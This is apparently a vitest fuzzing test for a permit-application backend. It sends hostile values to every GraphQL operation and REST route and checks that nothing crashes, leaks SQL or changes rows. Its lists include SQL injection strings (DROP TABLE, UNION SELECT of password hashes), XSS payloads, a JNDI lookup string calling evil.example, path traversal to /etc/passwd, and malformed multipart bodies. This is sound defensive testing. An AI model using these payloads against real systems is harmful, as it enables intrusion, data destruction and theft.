import {
  COUNT_TABLE_VARIANTS,
  REPORT_APPLICATION_STATUSES,
  REPORT_GROUPS,
  REPORT_TABLES,
  REPORT_TYPES,
} from '@anumati/domain';
import { sql } from 'drizzle-orm';
import type { InjectOptions } from 'fastify';
import type { GraphQLArgument, GraphQLField, GraphQLInputType, GraphQLSchema } from 'graphql';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { graphqlRuntime } from '../graphql/graphql-runtime';
import { loadSchema } from '../graphql/schema-sdl';
import { LOCAL_UPLOAD_PATH } from '../modules/storage/local-storage';
import { FILES_PATH } from '../modules/storage/signed-link';
import { createOfficer } from '../testing/fixtures';
import { seedReportFixtures } from '../testing/report-fixtures';
import { databaseSnapshot, rowsOf } from '../testing/database-snapshot';
import { routerRoutes } from '../testing/router-routes';
import { createTestApp, type TTestApp } from '../testing/test-app';

/**
 * Issue 15 §2: hostile values in every argument of every GraphQL operation (read from the schema, so a new
 * operation is fuzzed without anyone listing it) and every input of every REST route (a table, checked against
 * the router so that a new route fails this test until it is listed). Goal: no HTTP 5xx, no INTERNAL, no SQL or
 * stack in any answer, and not one row changed anywhere.
 */

const { getNamedType, isEnumType, isInputObjectType, isListType, isNonNullType, isObjectType, isInterfaceType } =
  graphqlRuntime;

/** Text an attacker would try: injection, markup, paths, impossible dates, numbers in disguise, odd Unicode. */
const HOSTILE_TEXT: string[] = [
  '',
  ' ',
  '\t\r\n',
  'a'.repeat(10_000),
  'a'.repeat(300_000),
  "' OR '1'='1",
  "'; DROP TABLE applications; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  "admin'--",
  "') UNION SELECT username, password_hash FROM officers --",
  '%',
  '_',
  '%%%_%%',
  '\\',
  '\\x00',
  'a\u0000b',
  '\u0000',
  '%00',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  'javascript:alert(1)',
  '{{7*7}}',
  '${7*7}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  '2026-13-45',
  '2026-02-30',
  '0000-00-00',
  '9999-12-31',
  '-0001-01-01',
  '2026-11-02T25:61:61Z',
  '31/12/2026',
  'now',
  'Infinity',
  '-Infinity',
  'NaN',
  '1e309',
  '-1',
  '0',
  '9223372036854775808',
  '99999999999999999999999999',
  '0x7fffffff',
  '1.5',
  ' 1 ',
  '１２３',
  '\u202Eevil',
  '\uFEFF',
  '\uD800',
  '😀'.repeat(2000),
  'ग्राम पंचायत',
  'null',
  'undefined',
  '[]',
  '{}',
  '{"$gt": ""}',
  '__proto__',
  'constructor',
  '\r\nSet-Cookie: a=1',
  'ALL',
  '*',
  ',,,',
  'a,b,'.repeat(5000),
];
const HOSTILE_INTEGERS: unknown[] = [-1, 0, -2147483648, 2147483647, 1_000_000_000, 1.5, '7', true, null];
const HOSTILE_BOOLEANS: unknown[] = ['true', 0, null, 'yes'];
const HOSTILE_ENUMS: unknown[] = ['NOT_A_VALUE', 'all', '', 5, null];
/** IDs are text in GraphQL: the ids a database would choke on, then some of the text above. */
const HOSTILE_IDS: unknown[] = ['-1', '0', '2147483648', '99999999999999999999', '1.5', '1e3', ' 1', '0x10', 'abc', -1];
const HOSTILE_JSON: unknown[] = [null, true, -1, 1e308, [], {}, [1, 2], { a: { b: { c: {} } } }, 'x'.repeat(5000)];
/**
 * Issue 51 §4: values inside an argument that is itself JSON text (a report export's `args`, a form's answers, a
 * fee breakup), written into the JSON so that they reach the second parse: a NUL there became a database error.
 */
const HOSTILE_JSON_VALUES: unknown[] = [
  'a\u0000b',
  ['\u0000'],
  { nested: '\u0000' },
  '\uD800',
  "%' OR '1'='1",
  '2026-02-30',
  'x'.repeat(10_000),
  Array.from({ length: 300 }, () => 'x'),
  [1.5, -1, null],
  { $gt: '' },
  1e308,
  -1,
  0,
  2 ** 53,
  1.5,
  true,
  null,
  {},
  [],
];
/** Whole JSON texts an attacker would send where JSON is expected: broken, deep, odd, with a NUL escaped. */
const HOSTILE_JSON_TEXTS: string[] = [
  '',
  ' ',
  '{',
  '{"a":',
  'null',
  '1',
  '"\\u0000"',
  '{"a":"\\u0000"}',
  '["a\\u0000b"]',
  '{"a":"\\u{0}"}',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"a":1,"a":2}',
  '\uFEFF{}',
  '['.repeat(5000),
  `${'['.repeat(2000)}${']'.repeat(2000)}`,
  '{"a":1e999}',
  '{"a":"\\uD800"}',
  '[{"question":"q","answer":"\\u0000"}]',
  `{"a":"${'x'.repeat(300_000)}"}`,
];
/** The GraphQL arguments that carry JSON text, parsed again by the server. */
const JSON_TEXT_ARGUMENTS = new Set(['data', 'feeBreakup', 'remark']);

/** How many of the hostile texts each text argument gets; the offset moves by argument, so all are used. */
const TEXTS_PER_ARGUMENT = 6;

function rotatingTexts(seed: number): string[] {
  return Array.from(
    { length: TEXTS_PER_ARGUMENT },
    (_, index) => HOSTILE_TEXT[(seed * 7 + index) % HOSTILE_TEXT.length] ?? '',
  );
}

/** Hostile values for an argument of a GraphQL input type. */
function hostileValues(type: GraphQLInputType, seed: number): unknown[] {
  const inner = isNonNullType(type) ? type.ofType : type;
  if (isListType(inner)) {
    const items = hostileValues(inner.ofType, seed).slice(0, 3);
    return [...items.map((item) => [item]), [], Array.from({ length: 5000 }, () => 'x'), [null]];
  }
  const named = getNamedType(inner);
  if (isEnumType(named)) return HOSTILE_ENUMS;
  if (isInputObjectType(named)) return [null, 'x', [], {}];
  switch (named.name) {
    case 'Int':
    case 'Float':
      return HOSTILE_INTEGERS;
    case 'Boolean':
      return HOSTILE_BOOLEANS;
    case 'ID':
      return [...HOSTILE_IDS, ...rotatingTexts(seed).slice(0, 4)];
    default:
      return rotatingTexts(seed);
  }
}

type TFixtureIds = { readable: number; foreign: number; formInstance: number };

/** Values of each text argument that get an operation past its own checks, where the name says what it is. */
const BASELINE_TEXT: Record<string, string> = {
  username: 'nobody.here',
  password: 'Not-the-password-1',
  passwordConfirmation: 'Not-the-password-1',
  otpSecretKey: '000000',
  status: 'IN_PROCESS',
  typeOf: 'fee',
  searchParam: 'Madhapur',
  remark: 'Checked',
  comment: '<p>Checked</p>',
  data: '{}',
  feeBreakup: '{}',
  conditionSelected: '[]',
  startDate: '2026-10-01',
  endDate: '2026-11-01',
};

/**
 * A valid value for a required argument. Reads name a file the caller may read (so they reach the database);
 * writes name a file of another jurisdiction, so that a hostile value which happens to be valid text (a note
 * reading "' OR 1=1") is still refused and the database stays as it was.
 */
function baseline(argument: GraphQLArgument, ids: TFixtureIds, isWrite: boolean): unknown {
  const inner = isNonNullType(argument.type) ? argument.type.ofType : argument.type;
  if (isListType(inner)) return [];
  const named = getNamedType(inner);
  if (isEnumType(named)) return named.getValues()[0]?.value;
  if (isInputObjectType(named)) return {};
  if (named.name === 'Int') return 1;
  if (named.name === 'Boolean') return false;
  if (named.name === 'ID') {
    if (/formInstance/i.test(argument.name)) return String(isWrite ? ids.foreign : ids.formInstance);
    return String(isWrite ? ids.foreign : ids.readable);
  }
  return BASELINE_TEXT[argument.name] ?? 'x';
}

type TCase = { label: string; request: InjectOptions };

/** JSON texts of an object and of a list, each holding one of the hostile values. */
function jsonWithHostileValues(): string[] {
  return HOSTILE_JSON_VALUES.flatMap((value) => [JSON.stringify({ question: value }), JSON.stringify([value])]);
}

function selectionFor(field: GraphQLField<unknown, unknown>): string {
  const named = getNamedType(field.type);
  return isObjectType(named) || isInterfaceType(named) ? ' { __typename }' : '';
}

/** One case per (operation, argument, hostile value), every other required argument at its baseline. */
function graphqlCases(schema: GraphQLSchema, ids: TFixtureIds, token: string): TCase[] {
  const cases: TCase[] = [];
  let seed = 0;
  // An input type's fields are fuzzed one by one where it first appears; later operations get the whole-object values.
  const fuzzedInputTypes = new Set<string>();
  for (const [kind, root] of [
    ['query', schema.getQueryType()],
    ['mutation', schema.getMutationType()],
  ] as const) {
    for (const field of Object.values(root?.getFields() ?? {})) {
      const declarations = field.args.map((argument) => `$${argument.name}: ${String(argument.type)}`).join(', ');
      const call = field.args.map((argument) => `${argument.name}: $${argument.name}`).join(', ');
      const document = field.args.length
        ? `${kind} (${declarations}) { ${field.name}(${call})${selectionFor(field)} }`
        : '';
      const required = Object.fromEntries(
        field.args
          .filter((argument) => isNonNullType(argument.type))
          .map((argument) => [argument.name, baseline(argument, ids, kind === 'mutation')]),
      );
      for (const argument of field.args) {
        seed += 1;
        const inner = isNonNullType(argument.type) ? argument.type.ofType : argument.type;
        const named = getNamedType(inner);
        const hostile = JSON_TEXT_ARGUMENTS.has(argument.name)
          ? [...hostileValues(argument.type, seed), ...HOSTILE_JSON_TEXTS, ...jsonWithHostileValues()]
          : hostileValues(argument.type, seed);
        const values: { path: string; variables: Record<string, unknown> }[] = hostile.map((value) => ({
          path: argument.name,
          variables: { ...required, [argument.name]: value },
        }));
        // Each field of an input object gets its own hostile values.
        if (isInputObjectType(named) && !isListType(inner) && !fuzzedInputTypes.has(named.name)) {
          fuzzedInputTypes.add(named.name);
          for (const inputField of Object.values(named.getFields())) {
            seed += 1;
            for (const value of hostileValues(inputField.type, seed)) {
              values.push({
                path: `${argument.name}.${inputField.name}`,
                variables: { ...required, [argument.name]: { [inputField.name]: value } },
              });
            }
          }
        }
        for (const { path, variables } of values) {
          cases.push({
            label: `${field.name}(${path}=${JSON.stringify(variables[path.split('.')[0] ?? '']).slice(0, 60)})`,
            request: {
              method: 'POST',
              url: '/graphql',
              headers: { authorization: `Bearer ${token}` },
              // Sign-in operations are limited per address: each case comes from its own.
              remoteAddress: `10.${(cases.length >> 16) & 255}.${(cases.length >> 8) & 255}.${cases.length & 255}`,
              payload: { query: document, variables },
            },
          });
        }
      }
    }
  }
  return cases;
}

type TRestRoute = {
  method: 'GET' | 'POST' | 'PUT' | 'DELETE';
  /** The route as the router knows it. */
  route: string;
  params?: Record<string, string>;
  query?: Record<string, string>;
  body?: Record<string, unknown>;
  headers?: Record<string, string>;
  multipart?: Record<string, string>;
};

const PLATFORM_KEY = { authorization: 'Bearer anumati-platform-development-key' };

/** Every REST route with the inputs it reads; a route missing here fails the coverage test below. */
function restRoutes(ids: TFixtureIds): TRestRoute[] {
  const id = String(ids.readable);
  const foreign = String(ids.foreign);
  const application = (suffix: string): TRestRoute => ({
    method: 'GET',
    route: `/api/v1/applications/:id/${suffix}`,
    params: { id },
  });
  return [
    { method: 'GET', route: '/api/fee_details/:id', params: { id } },
    {
      method: 'GET',
      route: '/api/fee_calculator/get_total_fee_breakup',
      query: {
        application_type: 'BUILDING PERMISSION',
        building_purpose: 'RESIDENTIAL',
        authority: 'GHMC',
        ulb_grade: 'GHMC',
        plot_area: '200',
        height: '10',
        net_plot_area: '180',
        total_built_up_area: '300',
        floor_built_up_area: '100',
        approval_type: 'NEW',
        vlt_paid: 'false',
        market_value: '1000',
        ghmc_zone_area: 'CORE',
        sub_div_of_plot: 'false',
      },
    },
    {
      method: 'PUT',
      route: '/api/v1/deviations/:id',
      params: { id: foreign },
      body: { front: {}, rear: {}, side_one: {}, side_two: {}, land_value_per_registration_dep: 1 },
    },
    { method: 'GET', route: '/api/public/orders/:number', params: { number: 'TSB-2026-0000-0000-0000' } },
    {
      method: 'GET',
      route: '/api/public/orders/:number/copy-check',
      params: { number: 'TSB-2026-0000-0000-0000' },
      query: { sha256: '0'.repeat(64) },
    },
    // Issue 52: an administrator's import (the fuzzing officer is refused before the file is read) and its template.
    { method: 'POST', route: '/api/admin/officers/import', query: { dryRun: 'true' }, body: { file: 'x' } },
    { method: 'GET', route: '/api/admin/officers/import-template.csv' },
    // Issue 55: the website's feedback, open to anyone; its list and handled mark are an administrator's (the
    // fuzzing officer is refused). No category is valid, so that no hostile value of another field is stored: the
    // rest of this test wants not one row changed.
    {
      method: 'POST',
      route: '/api/feedback',
      body: { name: 'Fuzz', contact: 'fuzz@example.in', category: 'NONE', message: 'Fuzzed feedback', language: 'en' },
    },
    { method: 'GET', route: '/api/admin/feedback', query: { page: '1' } },
    { method: 'POST', route: '/api/admin/feedback/:id/handled', params: { id: '1' } },
    { method: 'GET', route: '/api/v1/villages/districts_for_authorites', query: { authorities: 'ALL' } },
    { method: 'GET', route: '/api/v1/villages/districts', query: { authorities: 'ALL' } },
    {
      method: 'GET',
      route: '/api/v1/villages/ulb_names_for_districts',
      query: { authorities: 'ALL', districts: 'ALL' },
    },
    { method: 'GET', route: '/api/v1/villages/ulb_names', query: { authorities: 'ALL', districts: 'ALL' } },
    {
      method: 'POST',
      route: '/api/v1/media',
      body: { application_id: foreign, s3_file_path: 'x.pdf', category: 'notes' },
    },
    { method: 'GET', route: '/api/v1/media/s3_signed_url', query: { content_type: 'application/pdf' } },
    { method: 'GET', route: '/api/v1/media/:id', params: { id: '1' } },
    {
      method: 'GET',
      route: `${FILES_PATH}/*`,
      params: { '*': 'documents/1/x.pdf' },
      query: { expires: '1', signature: 'x' },
    },
    {
      method: 'POST',
      route: LOCAL_UPLOAD_PATH,
      multipart: { key: 'documents/1/x.pdf', policy: 'x', 'x-amz-signature': 'x', 'Content-Type': 'application/pdf' },
    },
    { method: 'GET', route: '/api/v1/map_layers' },
    { method: 'GET', route: '/api/v1/map_layers/:file', params: { file: 'water_bodies.kml' } },
    application('view'),
    application('occupancy_show'),
    application('compound_wall_show'),
    application('citizen_uploaded_documents'),
    application('certificates'),
    {
      method: 'POST',
      route: '/api/v1/properties/update_geo_coordinates',
      body: { officer_geo_coordinates: [], property_id: foreign, officer_id: 1 },
    },
    { method: 'DELETE', route: '/api/v1/properties/delete_officer_coordinates', query: { property_id: foreign } },
    {
      method: 'GET',
      route: '/api/exports/applications.xlsx',
      query: { filter: 'ALL', searchParam: 'Madhapur', receivedDateParam: '2026-10-01', status: 'ALL', page: '1' },
    },
    { method: 'GET', route: '/api/exports/comments/:id.pdf', params: { id } },
    {
      method: 'GET',
      route: '/api/exports/reports/:table',
      params: { table: 'report-applications.xlsx' },
      query: { args: JSON.stringify({ applicationStatus: 'ALL', startDate: '2026-10-01' }) },
    },
    {
      method: 'POST',
      route: '/api/platform/v1/applications',
      headers: { ...PLATFORM_KEY, 'idempotency-key': 'fuzz-idempotency-key' },
      body: {},
    },
    {
      method: 'POST',
      route: '/api/platform/v1/applications/:id/correction-requests',
      headers: PLATFORM_KEY,
      params: { id: foreign },
      body: {},
    },
    {
      method: 'POST',
      route: '/api/platform/v1/applications/:id/:event',
      headers: PLATFORM_KEY,
      params: { id: foreign, event: 'withdrawal' },
      body: {},
    },
  ];
}

/** Routes with no input to fuzz, or not part of the API (the development SMS outbox, the API description). */
const ROUTES_WITHOUT_INPUT = [
  'GET /api/health',
  'GET /health/live',
  'GET /health/ready',
  'GET /api/docs',
  'GET /api/dev/sms',
  'GET /graphql',
  'POST /graphql',
];

function urlOf(route: TRestRoute, params: Record<string, string>, query: Record<string, string>): string {
  const path = route.route.replace(/:(\w+)|\*/g, (whole, name: string | undefined) => {
    // A URL cannot carry a lone surrogate; it travels as the replacement character, as a browser sends it.
    const value = (params[name ?? '*'] ?? '').replace(/[\uD800-\uDFFF]/g, '\uFFFD');
    return name ? encodeURIComponent(value) : value.split('/').map(encodeURIComponent).join('/');
  });
  const search = new URLSearchParams(query).toString();
  return search ? `${path}?${search}` : path;
}

function multipartPayload(fields: Record<string, string>) {
  const boundary = '----anumati-fuzz';
  const parts = Object.entries(fields).map(
    ([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  );
  const file = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="x.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\r\n`;
  return {
    payload: `${parts.join('')}${file}--${boundary}--\r\n`,
    contentType: `multipart/form-data; boundary=${boundary}`,
  };
}

function restCases(routes: TRestRoute[], token: string): TCase[] {
  const cases: TCase[] = [];
  let seed = 1000;
  for (const route of routes) {
    const params = route.params ?? {};
    const query = route.query ?? {};
    const headers = { authorization: `Bearer ${token}`, ...route.headers };
    const send = (label: string, parts: { params?: object; query?: object; body?: unknown; multipart?: object }) => {
      const request: InjectOptions = {
        method: route.method,
        url: urlOf(route, { ...params, ...parts.params }, { ...query, ...parts.query }),
        headers,
      };
      if (route.multipart) {
        const form = multipartPayload({ ...route.multipart, ...parts.multipart });
        request.payload = form.payload;
        request.headers = { ...headers, 'content-type': form.contentType };
      } else if (route.body !== undefined) {
        request.payload = (parts.body ?? route.body) as InjectOptions['payload'];
        request.headers = { ...headers, 'content-type': 'application/json' };
      }
      cases.push({ label: `${route.method} ${route.route} ${label}`, request });
    };
    const inputs: [string, Record<string, unknown>, (value: unknown) => object][] = [
      ['params', params, (value) => ({ params: value })],
      ['query', query, (value) => ({ query: value })],
      ['multipart', route.multipart ?? {}, (value) => ({ multipart: value })],
    ];
    for (const [where, fields, wrap] of inputs) {
      for (const name of Object.keys(fields)) {
        seed += 1;
        for (const value of [...rotatingTexts(seed), ...HOSTILE_IDS.slice(0, 4).map(String)]) {
          send(`${where}.${name}=${JSON.stringify(value).slice(0, 40)}`, wrap({ [name]: value }));
        }
      }
    }
    if (route.body !== undefined) {
      for (const name of Object.keys(route.body)) {
        seed += 1;
        for (const value of [...rotatingTexts(seed).slice(0, 5), ...HOSTILE_JSON]) {
          send(`body.${name}=${JSON.stringify(value)?.slice(0, 40)}`, { body: { ...route.body, [name]: value } });
        }
      }
      for (const body of HOSTILE_JSON)
        send(`body=${JSON.stringify(body)?.slice(0, 40)}`, { body: JSON.stringify(body) });
    }
  }
  return cases;
}

/** Arguments that every report export's schema accepts, the union of their fields (zod drops the rest). */
const EXPORT_ARGS: Record<string, unknown> = {
  type: REPORT_TYPES[0],
  groupBy: REPORT_GROUPS[0],
  variant: COUNT_TABLE_VARIANTS[0],
  applicationStatus: REPORT_APPLICATION_STATUSES[0],
  searchParam: 'Madhapur',
  search: 'Madhapur',
  startDate: '2026-10-01',
  endDate: '2026-11-01',
  authorities: ['ALL'],
  districts: ['ALL'],
  ulbs: ['ALL'],
  circles: ['ALL'],
  applicationTypes: null,
  stages: null,
  page: 1,
  perPage: 10,
  topPerUlb: 1,
};
const VALUES_PER_EXPORT_FIELD = 4;

/**
 * Issue 51 §4: every report export (its `args` are JSON in the query string), each field of its arguments with
 * hostile values written inside the JSON, and the whole `args` as hostile JSON text.
 */
function reportExportCases(token: string): TCase[] {
  const cases: TCase[] = [];
  const send = (table: string, label: string, args: string) =>
    cases.push({
      label: `GET /api/exports/reports/${table} ${label}`,
      request: {
        method: 'GET',
        url: `/api/exports/reports/${table}.xlsx?${new URLSearchParams({ args }).toString()}`,
        headers: { authorization: `Bearer ${token}` },
      },
    });
  let offset = 0;
  for (const table of ['report-counts', ...Object.keys(REPORT_TABLES)]) {
    for (const field of Object.keys(EXPORT_ARGS)) {
      for (let index = 0; index < VALUES_PER_EXPORT_FIELD; index += 1) {
        const value = HOSTILE_JSON_VALUES[(offset + index) % HOSTILE_JSON_VALUES.length];
        send(
          table,
          `args.${field}=${JSON.stringify(value)?.slice(0, 40)}`,
          JSON.stringify({ ...EXPORT_ARGS, [field]: value }),
        );
      }
      offset += VALUES_PER_EXPORT_FIELD;
    }
    for (const text of HOSTILE_JSON_TEXTS) send(table, `args=${JSON.stringify(text.slice(0, 40))}`, text);
  }
  return cases;
}

const BOUNDARY = 'anumati-edge';
const part = (headers: string, body: string) => `--${BOUNDARY}\r\n${headers}\r\n\r\n${body}\r\n`;
const field = (name: string, value: string) => part(`Content-Disposition: form-data; name="${name}"`, value);
const filePart = (filename = 'x.pdf') =>
  part(
    `Content-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/pdf`,
    '%PDF-1.4',
  );
const CLOSE = `--${BOUNDARY}--\r\n`;
const FORM = `multipart/form-data; boundary=${BOUNDARY}`;

/** Malformed multipart forms: the header's boundary, the parts' headers, their number and sizes, the framing. */
const MULTIPART_EDGES: [label: string, contentType: string, payload: string | Buffer][] = [
  ['no boundary', 'multipart/form-data', `${field('key', 'x')}${filePart()}${CLOSE}`],
  ['an empty boundary', 'multipart/form-data; boundary=', `${field('key', 'x')}${CLOSE}`],
  ['a quoted empty boundary', 'multipart/form-data; boundary=""', CLOSE],
  ['a boundary of 200 characters', `multipart/form-data; boundary=${'b'.repeat(200)}`, `--${'b'.repeat(200)}--\r\n`],
  ['two boundaries', `${FORM}; boundary=other`, `${field('key', 'x')}${CLOSE}`],
  ['multipart/ alone', 'multipart/', CLOSE],
  ['multipart/mixed', `multipart/mixed; boundary=${BOUNDARY}`, `${field('key', 'x')}${filePart()}${CLOSE}`],
  ['an empty body', FORM, ''],
  ['the closing delimiter only', FORM, CLOSE],
  ['no closing delimiter', FORM, `${field('key', 'x')}${filePart()}`],
  [
    'another boundary in the body',
    FORM,
    `--other\r\nContent-Disposition: form-data; name="key"\r\n\r\nx\r\n--other--\r\n`,
  ],
  ['a part without a name', FORM, `${part('Content-Disposition: form-data', 'x')}${filePart()}${CLOSE}`],
  ['a part without headers', FORM, `--${BOUNDARY}\r\n\r\nx\r\n${CLOSE}`],
  [
    'a header line of 100 KB',
    FORM,
    `${part(`Content-Disposition: form-data; name="${'k'.repeat(100_000)}"`, 'x')}${CLOSE}`,
  ],
  [
    '2,000 header lines in a part',
    FORM,
    `${part(Array.from({ length: 2000 }, (_, i) => `X-H${i}: v`).join('\r\n'), 'x')}${CLOSE}`,
  ],
  ['a header without a colon', FORM, `${part('Content-Disposition form-data name=key', 'x')}${CLOSE}`],
  ['30 fields', FORM, `${Array.from({ length: 30 }, (_, i) => field(`f${i}`, 'x')).join('')}${filePart()}${CLOSE}`],
  ['a field of 100 KB', FORM, `${field('policy', 'p'.repeat(100_000))}${filePart()}${CLOSE}`],
  ['two files', FORM, `${filePart()}${filePart('y.pdf')}${CLOSE}`],
  ['a file before the fields', FORM, `${filePart()}${field('key', 'x')}${CLOSE}`],
  ['a file without a name', FORM, `${filePart('')}${CLOSE}`],
  ['a file name with a path and a NUL', FORM, `${filePart('../../etc/passwd\u0000.pdf')}${CLOSE}`],
  [
    'an encoded file name',
    FORM,
    `${part(`Content-Disposition: form-data; name="file"; filename*=UTF-8''%00%2e%2e%2f`, 'x')}${CLOSE}`,
  ],
  ['a field with a NUL', FORM, `${field('key', 'a\u0000b')}${filePart()}${CLOSE}`],
  ['bare line feeds', FORM, `${field('key', 'x')}${filePart()}${CLOSE}`.replace(/\r\n/g, '\n')],
  ['binary garbage', FORM, Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256))],
  ['a part of 2 MB without its end', FORM, `--${BOUNDARY}\r\n${'x'.repeat(2 * 1024 * 1024)}`],
];

/** Each malformed form to the local bucket, and to JSON routes that do not take forms. */
function multipartCases(token: string): TCase[] {
  const targets = [LOCAL_UPLOAD_PATH, '/graphql', '/api/v1/media', '/api/platform/v1/applications'];
  return targets.flatMap((url) =>
    MULTIPART_EDGES.map(([label, contentType, payload]) => ({
      label: `POST ${url} multipart: ${label}`,
      request: {
        method: 'POST' as const,
        url,
        headers: { authorization: `Bearer ${token}`, 'content-type': contentType },
        payload,
      },
    })),
  );
}

/** The audit events a hostile request may add: a refused write, a wrong password or code. */
const AUDITED_BY_DESIGN = /^(?:WRITE_REFUSED|[A-Z_]+_WRONG)$/;

/**
 * The tables a read may write by design, checked apart: the audit trail (below), and the record of the day's refresh
 * of the chasing cell's open turns, which the first report read of an India day makes (turnDelaysAsOf, issue 57).
 */
const WRITTEN_BY_DESIGN = ['audit_events', 'scheduler_runs'];

function withoutAuditTrail(snapshot: Record<string, string>): Record<string, string> {
  return Object.fromEntries(Object.entries(snapshot).filter(([table]) => !WRITTEN_BY_DESIGN.includes(table)));
}

/** What must never reach a client: SQL the database saw, its errors, or a stack. */
const LEAK = /Failed query|params:|node_modules|\n\s+at |syntax error at or near|invalid input syntax|violates|pglite/i;

let t: TTestApp;
let token: string;
let ids: TFixtureIds;

beforeAll(async () => {
  // One session sends every case, in a minute of the test's clock: its rate (request-budget.ts) is set out of reach.
  t = await createTestApp({ env: { SESSION_RATE_PER_MINUTE: '60000' } });
  const { places } = await seedReportFixtures(t);
  // A commissioner of the first ULB with no file waiting for them: reads reach the database, writes are refused.
  await createOfficer(t.database.db, {
    username: 'fuzzer',
    role: 'Municipal Commissioner',
    jurisdiction: places.a,
    mobile: '9100000099',
  });
  token = await t.signIn('fuzzer', '9100000099');
  const [row] = await rowsOf<{ readable: number; foreign: number; form_instance: number }>(
    t,
    sql`
    SELECT (SELECT min(id) FROM applications WHERE ulb_id = ${places.a.ulb.id}) AS readable,
           (SELECT min(id) FROM applications WHERE ulb_id = ${places.b.ulb.id}) AS foreign,
           (SELECT min(id) FROM stage_officers) AS form_instance`,
  );
  if (!row) throw new Error('no fixture files');
  ids = { readable: row.readable, foreign: row.foreign, formInstance: row.form_instance };
});
afterAll(() => t.close());

type TFailure = { label: string; status: number; body: string };

async function runAll(cases: TCase[]): Promise<TFailure[]> {
  const failures: TFailure[] = [];
  for (const { label, request } of cases) {
    const response = await t.app.inject(request);
    const body = response.body;
    if (response.statusCode >= 500 || body.includes('"INTERNAL"') || LEAK.test(body)) {
      failures.push({ label, status: response.statusCode, body: body.slice(0, 300) });
    }
  }
  return failures;
}

describe('hostile input (issue 15 §2)', () => {
  it('every REST route is fuzzed (a new route must be added to the table)', async () => {
    await t.app.ready();
    const listed = [...restRoutes(ids).map((route) => `${route.method} ${route.route}`), ...ROUTES_WITHOUT_INPUT];
    for (const entry of listed) {
      const [method = '', url = ''] = entry.split(' ');
      expect({ entry, known: t.app.hasRoute({ method: method as 'GET', url }) }).toEqual({ entry, known: true });
    }
    // The router's printed tree folds a wildcard into its parent ("/api/v1/media*"): wildcards are matched by
    // their parent, every other route by its path.
    const unlisted = routerRoutes(t.app.printRoutes({ commonPrefix: false })).filter(
      (route) =>
        !listed.includes(route) &&
        !(route.endsWith('*') && listed.some((entry) => entry.endsWith('/*') && entry.startsWith(route.slice(0, -1)))),
    );
    expect(unlisted).toEqual([]);
  });

  it('no 5xx, no INTERNAL, no SQL or stack and no changed row for ≥ 2,000 hostile values in every argument', async () => {
    const schema = graphqlRuntime.buildSchema(loadSchema());
    const cases = [
      ...graphqlCases(schema, ids, token),
      ...restCases(restRoutes(ids), token),
      ...reportExportCases(token),
      ...multipartCases(token),
    ];
    expect(cases.length).toBeGreaterThanOrEqual(2000);
    const before = withoutAuditTrail(await databaseSnapshot(t));
    const [last] = await rowsOf<{ id: number }>(t, sql`SELECT coalesce(max(id), 0)::int AS id FROM audit_events`);
    const failures = await runAll(cases);
    expect(failures).toEqual([]);
    expect(withoutAuditTrail(await databaseSnapshot(t))).toEqual(before);
    // The trail grew only by what is audited by design: refused writes, and wrong passwords and codes (issue 51 §5).
    const added = await rowsOf<{ action: string }>(
      t,
      sql`SELECT DISTINCT action FROM audit_events WHERE id > ${last?.id ?? 0}`,
    );
    expect(added.map(({ action }) => action).filter((action) => !AUDITED_BY_DESIGN.test(action))).toEqual([]);
    const [refused] = await rowsOf<{ count: number }>(
      t,
      sql`SELECT count(*)::int AS count FROM audit_events WHERE action = 'WRITE_REFUSED'`,
    );
    expect(refused?.count).toBeGreaterThan(0);
  }, 600_000);
});
